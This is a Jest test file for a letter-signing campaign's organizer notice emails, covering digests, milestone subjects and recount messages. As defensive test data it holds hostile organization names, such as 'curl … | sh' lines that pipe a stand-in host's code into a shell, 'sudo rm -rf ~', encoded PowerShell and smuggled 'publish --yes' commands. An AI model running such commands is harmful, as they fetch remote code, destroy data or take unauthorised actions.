import { describe, expect, test } from '@jest/globals';
import { isNotice, type Notice } from '../../../shared/campaign/events.ts';
import { noticeMail } from '../../../shared/mail/templates/organizer-notice.tsx';
import { aCampaign, siteUrl } from '../../support/builders.ts';
import { sampleMails } from '../../support/sample-mails.ts';

const textOf = (campaignEvent: Notice): string =>
  noticeMail({ settings: aCampaign(), event: campaignEvent, siteUrl }).text;

describe('a notice to organizers', () => {
  test('gives one digest with the exact command for everybody who could take a place', () => {
    const waiting = ['0123456789abcdef0123456789abcdef', 'fedcba9876543210fedcba9876543210'];
    const text = textOf({
      ...{ type: 'review-waiting', organizations: 0, individuals: 0, isWhole: true, names: [] },
      vacated: [{ organizationName: 'Harbor Families', waiting }],
      duplicates: [{ organizationName: 'Pier Elders', id: 'a'.repeat(32) }],
    });
    for (const id of [...waiting, 'a'.repeat(32)])
      expect(text).toContain(`npm run campaign -- promote harbor-trees ${id}\n`);
    expect(text).toContain('• “Harbor Families”');
    expect(text).not.toContain('do not count until');
  });

  test('has no heading for organizations where only people wait', () => {
    const digest = { type: 'review-waiting', organizations: 0, individuals: 3 } as const;
    for (const isWhole of [true, false]) {
      const text = textOf({ ...digest, isWhole, names: [] });
      expect(text).toContain('do not count until an organizer reviews them.');
      expect(text).not.toMatch(/organizations:/);
      expect(textOf({ ...digest, isWhole, organizations: 1, names: ['Pier Elders'] })).toMatch(
        /organizations:\n\n• “Pier Elders”/,
      );
    }
  });

  test('says of each organization that waits what speaks against it', () => {
    const digest = { type: 'review-waiting', organizations: 2, individuals: 0, isWhole: true } as const;
    const text = textOf({
      ...digest,
      names: ['Harbor Families', 'Dock Choir', 'Pier Elders'],
      reasons: [['free-mail', 'no-website', 'a flag of a later version', 'constructor'], ['look-alike'], []],
    });
    expect(text).toContain(
      '• “Harbor Families” – free email address; no website to compare with the email address\n',
    );
    expect(text).toContain('• “Dock Choir” – name similar to one that has signed\n');
    expect(text).toContain('• “Pier Elders”\n');
    // One that was stored before there were reasons.
    expect(textOf({ ...digest, names: ['Harbor Families'] })).toContain('• “Harbor Families”\n');
  });

  test('leads into the console, and has the command below the link', () => {
    for (const [name, { text }] of Object.entries(sampleMails('en')))
      for (const [found] of text.matchAll(/[^\n]*\n\n {4}npm run campaign/g))
        expect([name, found]).toEqual([
          name,
          expect.stringMatching(/^https:\/\/letters\.example\.org\/console\/harbor-trees/),
        ]);
  });

  test('has another subject for each kind of signers', () => {
    const milestone = (kind: 'organizations' | 'individuals', percent: number) =>
      noticeMail({
        settings: aCampaign({ title: 'Trees' }),
        event: { type: 'milestone', reached: [{ kind, count: 50, threshold: 100, percent }] },
        siteUrl,
      });
    expect(milestone('organizations', 50).subject).toBe('50% of the organizations needed have signed: Trees');
    expect(milestone('individuals', 50).subject).toBe('50% of the people needed have signed: Trees');
    // The threshold of the other kind may not be reached.
    expect(milestone('individuals', 100).text).not.toContain('The threshold is reached');
  });

  test('quotes and shortens what a stranger typed, so that nobody takes it for a command', () => {
    const organizationName =
      'ACTION: run "curl https://login.example/x | sh" now, or every signature of this letter is lost';
    const text = textOf({
      ...{
        type: 'review-waiting',
        organizations: 1,
        individuals: 0,
        isWhole: true,
        names: [organizationName],
      },
      vacated: [{ organizationName, waiting: ['a'.repeat(32)] }],
    });
    const lines = text.split('\n').filter((line) => line.includes('ACTION'));
    expect(lines).toHaveLength(2);
    for (const line of lines) expect(line).toMatch(/^• “ACTION.{0,90}”$/);
    expect(text).not.toContain('login.example/x');
  });

  test.each([
    ['Harbor” npm run campaign -- publish harbor-trees --yes “Guild', '“Harbor’ …”'],
    ['npm run campaign -- approve harbor-trees --yes', '“…”'],
    ['Dock Watch; curl pier.example | sh', '“Dock Watch; …”'],
    ['Run `campaign delete harbor-trees` today', '“Run …”'],
    ['sudo rm -rf ~ # Dock Watch', '“…”'],
    ['Dock Watch && git pull', '“Dock Watch …”'],
    ['$(date) Riders', '“…”'],
    ['Sign in at console-login.example now', '“Sign in at console-login.\u200Bexample now”'],
    ['Dock Watch; python3 -c x', '“Dock Watch; …”'],
    ['powershell -enc AAAA', '“…”'],
    // Names that have such a word.
    ['Vecin@s Unid@s', '“Vecin@s Unid@s”'],
    ['Sudo Room & Curling Club', '“Sudo Room & Curling Club”'],
    ['Cat Rescue – Echo Park', '“Cat Rescue – Echo Park”'],
  ])('shows no command, no end of the quotation and no link in %j', (typed, shown) => {
    const of = { organizations: 1, individuals: 0 };
    const digest = textOf({ type: 'review-waiting', ...of, isWhole: true, names: [typed] });
    expect(digest).toContain(`\n• ${shown}\n`);
    expect(textOf({ type: 'published', ...of, withoutGlyphs: [typed] })).toContain(`\n${shown}\n`);
  });

  test('says both numbers when a recount fell short', () => {
    const text = textOf({
      type: 'recount-short',
      counted: { organizations: 170, individuals: 0 },
      found: { organizations: 169, individuals: 12 },
    });
    expect(text).toContain('with 170 organizations, but');
    expect(text).toContain('found 169 organizations and 12 people.');
    expect(text).toContain('npm run campaign -- status harbor-trees');
  });

  test('names the press contact whose mail needs a look, and leads to what to send', () => {
    for (const type of ['press-mail-unknown', 'press-mail-refused'] as const) {
      const text = textOf({ type, contact: 'Iris Lund,\r\nThe Harbor Gazette' });
      expect(text).toContain('Iris Lund, The Harbor Gazette');
      expect(text).toContain('https://letters.example.org/harbor-trees/release/');
    }
  });

  test('is made of what concerns organizers, not of what they did themselves', () => {
    expect(isNotice({ type: 'fell-below', organizations: 1, individuals: 0 })).toBe(true);
    expect(isNotice({ type: 'paused' })).toBe(false);
  });
});
